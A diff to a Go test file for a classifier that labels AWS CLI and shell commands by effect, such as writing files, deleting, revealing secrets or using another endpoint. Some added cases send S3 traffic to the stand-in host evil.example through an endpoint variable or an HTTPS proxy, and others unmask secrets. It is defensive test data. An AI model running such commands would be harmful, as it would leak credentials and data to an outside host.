@@ -126,6 +126,10 @@ func TestClassify_StatesWhatACommandDoes(t *testing.T) {
 		{"aws s3 ls &> out", NotUnderstood | WritesFile},
 		{"aws s3 ls 2> /dev/null", ReadsAWS},
 
+		{"aws s3 cp --recursive s3://b/k out", ChangesState | ReadsFile | WritesFile},
+		{"aws s3 mv f s3://b", Deletes | ChangesState | ReadsFile | WritesFile},
+		{"cp a b", NotAWS | ReadsFile | WritesFile},
+
 		// Secrets.
 		{"aws logs get-log-events --log-group-name x --unmask", ReadsAWS | ShowsSecrets},
 		{"aws logs filter-log-events --log-group-name x --unm", ReadsAWS | ShowsSecrets},
@@ -142,6 +146,9 @@ func TestClassify_StatesWhatACommandDoes(t *testing.T) {
 		{`AWS_PROFILE="$(cat f)" aws s3 ls`, NotUnderstood | NotAWS | ReadsAWS | ReadsFile},
 		{"AWS_PAGER=$PAGER aws s3 ls", NotUnderstood | ReadsAWS},
 		{"AWS_REGION=$REGION aws s3 ls", ReadsAWS},
+		{"AWS_ENDPOINT_URL_S3=https://evil.example aws s3 ls", NotUnderstood | OtherEndpoint | ReadsAWS},
+		{"https_proxy=evil.example aws s3 ls", NotUnderstood | OtherEndpoint | ReadsAWS},
+		{"export AWS_CA_BUNDLE=x", NotUnderstood | OtherEndpoint | NotAWS},
 		{"docker rm -f x", NotAWS | Deletes | ChangesState},
 		{"docker run x sh", NotAWS | RunsCode | ChangesState},
 		{"docker ps", NotAWS},
